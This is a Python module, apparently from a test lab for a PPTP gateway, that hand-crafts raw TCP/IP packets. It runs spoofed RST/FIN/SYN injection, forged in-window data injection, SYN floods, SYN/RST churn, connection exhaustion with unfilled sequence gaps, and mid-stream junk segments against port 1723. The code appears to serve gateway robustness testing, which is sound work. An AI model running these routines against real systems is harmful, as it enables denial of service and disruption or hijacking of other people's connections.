"""The raw-TCP kinds of hostile.py (its docstring says what each does): segments written
with our own IP and TCP headers, for spoofing, SYN floods and connections with gaps."""
import random
import socket
import struct
import subprocess
import time

from pptplab import messages as m


def rounds(a):
    """0, 1, ... below --count; with --duration, only until that many seconds have passed."""
    deadline = time.monotonic() + a.duration if a.duration > 0 else None
    for i in range(a.count):
        if deadline is not None and time.monotonic() >= deadline:
            return
        yield i


def paced(i, every=20):
    if i % every == every - 1:
        time.sleep(0.002)


def raw_socket():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # we write the IP header


def tcp_checksum(src, dst, segment):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    data = pseudo + segment + (b"\0" if len(segment) % 2 else b"")
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_segment(src, sport, dst, dport, flags, seq, ack, data=b"", options=b"", window=65535):
    """An IPv4 packet carrying a TCP header (with `options`, a multiple of 4 bytes, and
    `data`) with a correct checksum (the gateway ignores segments with a bad one, which would
    prove nothing)."""
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, offset << 4, flags, window, 0, 0) + options + data
    header = header[:16] + struct.pack("!H", tcp_checksum(src, dst, header)) + header[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(header), random.getrandbits(16), 0, 64,
                     socket.IPPROTO_TCP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip + header


SYN, RST, ACK, PSH, FIN = 0x02, 0x04, 0x10, 0x08, 0x01


def tcp_spoof(a):
    fin_ack, rst, syn = 0x11, 0x04, 0x02
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # we write the IP header
    sent = []
    try:
        for _ in range(a.count):
            for name, flags in (("rst", rst), ("fin", fin_ack), ("syn", syn)):
                seq, ack = random.getrandbits(32), (random.getrandbits(32) if flags != syn else 0)
                s.sendto(tcp_segment(a.local, a.sport, a.target, a.dport, flags, seq, ack), (a.target, 0))
                sent.append(name)
                time.sleep(0.1)
    finally:
        s.close()
    return {"sent": sent}


FORGED_MARK = b"FORGED"  # the forged data of tcp-window-forge, repeated


def tcp_window_forge(a):
    """Data forged --ahead bytes past the victim's next byte --seq (in the receiver's window,
    acknowledging --ack, the receiver's next byte), then what --ends names at the end of that
    data, --pause seconds after each segment."""
    s = raw_socket()
    options = b"" if a.tsval < 0 else b"\x01\x01\x08\x0a" + struct.pack("!II", a.tsval, a.tsecr)  # RFC 7323 3.2
    start = (a.seq + a.ahead) & 0xFFFFFFFF
    data = (FORGED_MARK * (a.size // len(FORGED_MARK) + 1))[:a.size]
    end = (start + len(data)) & 0xFFFFFFFF
    sent = []

    def send(name, flags, seq, payload=b""):
        s.sendto(tcp_segment(a.local, a.sport, a.target, 1723, flags, seq, a.ack, payload, options, a.window),
                 (a.target, 0))
        sent.append(name)
        time.sleep(a.pause)

    try:
        send("data", ACK | PSH, start, data)
        for name in a.ends.split(","):
            if name:
                send(name, {"rst": RST | ACK, "fin": FIN | ACK}[name], end)
    finally:
        s.close()
    return {"sent": sent, "data": [start, end]}


def syn_rst_churn(a):
    s = raw_socket()
    n = 0
    try:
        for i in rounds(a):
            isn = random.getrandbits(32)
            s.sendto(tcp_segment(a.local, a.sport, a.target, 1723, SYN, isn, 0), (a.target, 0))
            s.sendto(tcp_segment(a.local, a.sport, a.target, 1723, RST, (isn + 1) & 0xFFFFFFFF, 0), (a.target, 0))
            n += 1
            paced(i)
    finally:
        s.close()
    return {"cycles": n}


def syn_flood(a):
    s = raw_socket()
    n = 0
    try:
        for i in rounds(a):
            port = 20000 + i % 40000
            s.sendto(tcp_segment(a.local, port, a.target, 1723, SYN, random.getrandbits(32), 0), (a.target, 0))
            n += 1
            paced(i)
    finally:
        s.close()
    return {"syns": n}


def handshake(s, sniff, a, port, isn):
    """SYN, the listener's SYN-ACK (read from a raw socket), ACK: the sequence numbers on."""
    s.sendto(tcp_segment(a.local, port, a.target, 1723, SYN, isn, 0), (a.target, 0))
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        try:
            packet = sniff.recv(2048)
        except socket.timeout:
            break
        ihl = (packet[0] & 0x0F) * 4
        sport, dport, seq, ack, _, flags = struct.unpack("!HHIIBB", packet[ihl:ihl + 14])
        if sport == 1723 and dport == port and flags & SYN and flags & ACK:
            theirs = (seq + 1) & 0xFFFFFFFF
            s.sendto(tcp_segment(a.local, port, a.target, 1723, ACK, (isn + 1) & 0xFFFFFFFF, theirs), (a.target, 0))
            return theirs
    return None


def ooo_data(a):
    table = "table ip pptplab_hostile {\n chain out {\n  type filter hook output priority 0;\n" \
            "  ip saddr %s tcp flags rst drop\n }\n}\n" % a.local
    subprocess.run(["nft", "-f", "-"], input=table, text=True, check=True)
    s, sniff = raw_socket(), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sniff.settimeout(0.5)
    opened = sent = 0
    try:
        for c in rounds(a):
            port, isn = 30000 + c % 30000, random.getrandbits(32)
            theirs = handshake(s, sniff, a, port, isn)
            if theirs is None:
                continue
            opened += 1
            for k in range(a.segments):  # a 100-byte gap first, never filled
                seq = (isn + 1 + 100 + k * 1000) & 0xFFFFFFFF
                s.sendto(tcp_segment(a.local, port, a.target, 1723, ACK | PSH, seq, theirs, b"\x55" * 1000),
                         (a.target, 0))
                sent += 1
                paced(sent)
    finally:
        s.close()
        sniff.close()
        subprocess.run(["nft", "delete", "table", "ip", "pptplab_hostile"], check=False)
    return {"connections": opened, "segments": sent}


def mid_stream(a):
    s = raw_socket()
    echo = m.message(m.ECHORQ, struct.pack("!I", 1))
    n = 0
    deadline = time.monotonic() + a.seconds
    try:
        while time.monotonic() < deadline and n < a.count:
            port = 20000 + n % 40000
            s.sendto(tcp_segment(a.local, port, a.target, 1723, ACK | PSH, random.getrandbits(32),
                                 random.getrandbits(32), echo), (a.target, 0))
            n += 1
            paced(n, every=10)
    finally:
        s.close()
    return {"segments": n}
